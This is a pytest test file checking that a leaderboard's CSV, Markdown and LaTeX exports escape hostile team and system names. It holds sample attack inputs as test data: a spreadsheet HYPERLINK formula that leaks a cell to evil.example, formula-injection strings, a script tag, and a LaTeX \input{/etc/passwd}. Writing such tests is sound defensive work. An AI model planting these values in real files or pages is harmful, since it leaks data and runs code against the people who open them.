"""Participants name their systems, and organizers open the exports in spreadsheets,
Markdown renderers and LaTeX (a system named ``=HYPERLINK(...)`` was a live
formula in the CSV; a newline or ``<script>`` broke or passed into the Markdown)."""

import csv
import io

import pytest

from leaderboard.insights.exports import Table, csv_cell, latex_escape, markdown_escape, to_csv, to_latex, to_markdown
from leaderboard.models import Submission

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = ["-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA, "＝1+2", "＋1", "－2+3", "＠SUM(A1)"]  # full-width too


def table(name: str) -> Table:
    return Table(
        "caption", ["Rank", "Team", "System", "F"], [[1, "team", name, 0.5], [2, "other", "plain", -0.25]], {3}
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(name):
    rows = list(csv.reader(io.StringIO(to_csv(table(name)), newline="")))
    assert rows[1][2] == "'" + name
    assert rows[2][3] == "-0.25"  # numbers stay numbers, negative ones too


@pytest.mark.parametrize("name", [*HOSTILE, "'=1+2", "''＠x", "'plain", "plain"])
def test_every_escaped_cell_reads_back_as_it_was(name):
    """``'=1+2`` was written as is and read back as ``=1+2``: a re-imported ratings file
    named another system."""
    from scoring.fields.spreadsheet import FORMULA_STARTS, read_cell, safe_cell

    assert read_cell(safe_cell(name)) == name
    assert (safe_cell(name) != name) == name.lstrip("'").startswith(FORMULA_STARTS)


def test_plain_cells_are_left_alone():
    assert [csv_cell(v) for v in ("T5", "a=b", None, 3, 0.5)] == ["T5", "a=b", "", 3, 0.5]


def test_markdown_cells_carry_no_markup_no_html_and_no_line_break():
    hostile = "evil | cell\n| 1 | injected |\n<script>alert(1)</script> *bold* [link](http://x)"
    text = to_markdown(table(hostile))
    row = text.splitlines()[4]
    assert text.count("\n") == 6  # caption, blank, header, rule, two rows: the name added no line
    assert "<script>" not in text and "&lt;script&gt;" in row
    assert row.count(" | ") == 3  # four cells: the name's pipes are escaped
    assert markdown_escape("*a* _b_ `c` [d]") == r"\*a\* \_b\_ \`c\` \[d\]"


def test_latex_cells_escape_commands_and_line_breaks():
    assert (
        latex_escape("\\input{/etc/passwd}\n\nx<y|z")
        == r"\textbackslash{}input\{/etc/passwd\} x\textless{}y\textbar{}z"
    )
    assert "\n\n" not in to_latex(table("a\n\nb"))


@pytest.mark.django_db
def test_the_export_endpoint_neutralises_a_formula_named_system(insight_task, client):
    Submission.objects.filter(pk=insight_task["submissions"]["T5"].pk).update(system_name=FORMULA)
    client.force_login(insight_task["organizer"])
    rows = list(
        csv.reader(io.StringIO(client.get("/api/tasks/insight/leaderboard/export", {"format": "csv"}).content.decode()))
    )
    assert "'" + FORMULA in [r[2] for r in rows] and FORMULA not in [r[2] for r in rows]


# -- every CSV writer goes through the one escaping (scoring/fields/spreadsheet.py) --------------


def test_the_exports_csv_cell_is_the_one_escaping():
    from leaderboard.insights import exports
    from scoring.fields.spreadsheet import read_cell, safe_cell

    assert exports.csv_cell is safe_cell
    assert all(read_cell(safe_cell(v)) == v for v in HOSTILE + ["T5", "'quoted", "a=b"])


def test_the_ratings_csv_escapes_every_text_cell_and_reads_back_the_same():
    from scoring.human.ratings import Rating, read_ratings, write_ratings

    ratings = [Rating(name, "1", FORMULA, "=1+2", 3.0) for name in HOSTILE] + [Rating("ann", "2", "S", "-q", -2.5)]
    rows = list(csv.reader(io.StringIO(write_ratings(ratings), newline="")))
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in rows[1:-1] for cell in row)
    assert rows[-1][-1] == "-2.5"  # numbers stay numbers
    back = read_ratings(write_ratings(ratings).encode())
    assert [(r.annotator, r.system, r.scale, r.value) for r in back] == [
        (r.annotator, r.system, r.scale, r.value) for r in ratings
    ]


@pytest.mark.django_db
def test_a_rating_campaigns_judgments_csv_escapes_systems_and_annotators(insight_task, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    Submission.objects.filter(pk=insight_task["submissions"]["T5"].pk).update(system_name=FORMULA)
    quoted = FORMULA.replace('"', '""')
    text = "annotator,item,system,scale,value\n" + "".join(
        f'{a},1,"{quoted}",fluency,3\n' for a in ("=1+2", "@SUM(A1)", "+1", "-2+3")
    )
    client.force_login(insight_task["organizer"])
    answer = client.post(
        "/api/tasks/insight/campaigns/rated/import/", {"file": SimpleUploadedFile("r.csv", text.encode())}
    )
    assert answer.status_code == 201, answer.content
    exported = client.get("/api/tasks/insight/campaigns/rated/judgments.csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode(), newline="")))
    assert sorted(r[0] for r in rows[1:]) == ["'+1", "'-2+3", "'=1+2", "'@SUM(A1)"]
    assert {r[2] for r in rows[1:]} == {"'" + FORMULA}


@pytest.mark.django_db
def test_the_participants_csv_escapes_a_username_a_spreadsheet_would_run():
    from django.contrib.auth.models import User

    from tests.support.task_pages_support import SLUG, client_of, season_task

    season_task()
    User.objects.filter(username="pat").update(username="-2+3")
    answer = client_of("organizer").get(f"/tasks/{SLUG}/participants.csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    assert "'-2+3" in [r[0] for r in rows] and "-2+3" not in [r[0] for r in rows]
